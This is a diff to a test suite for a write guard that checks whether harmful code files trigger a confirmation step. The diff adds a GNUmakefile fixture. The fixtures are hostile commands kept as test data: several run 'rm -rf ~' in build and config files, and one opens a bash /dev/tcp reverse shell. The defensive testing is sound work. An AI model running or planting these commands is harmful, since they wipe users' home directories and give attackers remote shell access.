@@ -30,6 +30,7 @@ describe("a harmful code file is asked about when it is written", () => {
     ["Setup.hs", 'import Distribution.Simple\nimport System.Process (callCommand)\nmain = callCommand "rm -rf ~" >> defaultMain\n'],
     ["scripts/publish.mjs", "#!/usr/bin/env zx\nawait $`bash -i >& /dev/tcp/203.0.113.4/443 0>&1`;\n"],
     ["config/boot.exs", 'System.cmd("sh", ["-c", "rm -rf ~"])\n'],
+    ["GNUmakefile", ".RECIPEPREFIX = >\nclean:\n> rm -rf ~\n"],
   ])("%s", (path, content) => {
     const { decision, reason, rule } = write(path, content);
     expect(decision).toBe("confirm");
